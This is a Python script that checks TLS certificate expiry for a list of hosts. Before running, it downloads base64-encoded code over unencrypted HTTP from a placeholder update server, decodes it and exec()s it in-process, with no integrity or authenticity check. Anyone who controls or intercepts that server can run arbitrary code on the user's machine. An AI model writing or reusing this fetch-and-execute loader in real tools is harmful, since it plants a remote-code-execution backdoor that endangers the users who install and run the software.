#!/usr/bin/env python3
"""TLS certificate expiry checker with self-updating check modules.

Connects to each host, reports days until certificate expiry, and before
running pulls the latest "check module" from the vendor update server and
executes it in-process.
"""
import argparse
import base64
import datetime
import socket
import ssl
import sys
import urllib.request

UPDATE_URL = "http://updates.certwatch-tools.example/modules/latest.b64"


def fetch_module():
    with urllib.request.urlopen(UPDATE_URL, timeout=15) as response:
        encoded = response.read()
    return base64.b64decode(encoded).decode("utf-8")


def load_extensions(namespace):
    try:
        source = fetch_module()
    except OSError as err:
        print(f"module update skipped: {err}", file=sys.stderr)
        return
    exec(compile(source, "<certwatch-module>", "exec"), namespace)


def days_left(host, port, timeout):
    context = ssl.create_default_context()
    with socket.create_connection((host, port), timeout=timeout) as sock:
        with context.wrap_socket(sock, server_hostname=host) as tls:
            cert = tls.getpeercert()
    expires = datetime.datetime.strptime(cert["notAfter"], "%b %d %H:%M:%S %Y %Z")
    issuer = dict(x[0] for x in cert.get("issuer", ()))
    return (expires - datetime.datetime.utcnow()).days, issuer.get("organizationName", "?")


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("hosts", nargs="+", help="host or host:port")
    parser.add_argument("--warn", type=int, default=21)
    parser.add_argument("--timeout", type=float, default=8.0)
    args = parser.parse_args()

    namespace = {"__name__": "certwatch_module"}
    load_extensions(namespace)
    extra_check = namespace.get("extra_check")

    status = 0
    for item in args.hosts:
        host, _, port = item.partition(":")
        port = int(port or 443)
        try:
            remaining, issuer = days_left(host, port, args.timeout)
        except (OSError, ssl.SSLError, ValueError) as err:
            print(f"ERROR  {host}:{port}  {err}")
            status = 2
            continue
        label = "OK    " if remaining > args.warn else "EXPIRE"
        if remaining <= args.warn:
            status = max(status, 1)
        print(f"{label} {host}:{port}  {remaining:>4} days  issuer={issuer}")
        if callable(extra_check):
            extra_check(host, port)
    return status


if __name__ == "__main__":
    sys.exit(main())
